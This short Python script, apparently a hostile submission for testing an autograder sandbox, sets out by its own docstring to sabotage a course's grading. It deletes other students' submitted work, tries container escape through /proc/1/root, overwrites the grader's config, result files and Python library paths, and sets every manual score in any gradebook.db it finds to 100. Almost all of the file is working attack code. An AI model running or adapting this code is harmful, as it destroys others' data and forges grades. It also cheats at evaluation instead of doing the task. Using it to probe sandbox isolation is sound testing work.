"""Tries to delete the submissions of other students, to overwrite the results and notebooks of the course and the grader's files, and to write 100 points into gradebook.db."""
# %%
import glob, os, shutil, sqlite3
for place in (COURSE + "/submitted", "../../../b-good", "/proc/1/root" + COURSE + "/submitted"):
    tried(lambda: shutil.rmtree(place))
def write(path):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    return path, open(path, "w").write("{}")
def give_points(path):
    connection = sqlite3.connect(path, timeout=1)
    connection.execute("update grade set manual_score = 100, needs_manual_grade = 0")
    connection.commit()
for path in ("/results/1_attention/edits-the-results.json", "/source/1_attention/attention.ipynb", "/nbgrader_config.py"):
    for top in (COURSE, REPOSITORY, "/grader", "/usr/lib/python3", os.path.dirname(os.__file__), "/proc/1/root" + COURSE):
        tried(lambda: write(top + path))
for path in [COURSE + "/gradebook.db", *glob.glob("/*/gradebook.db"), *glob.glob("/*/*/gradebook.db")]:
    tried(lambda: give_points(path))
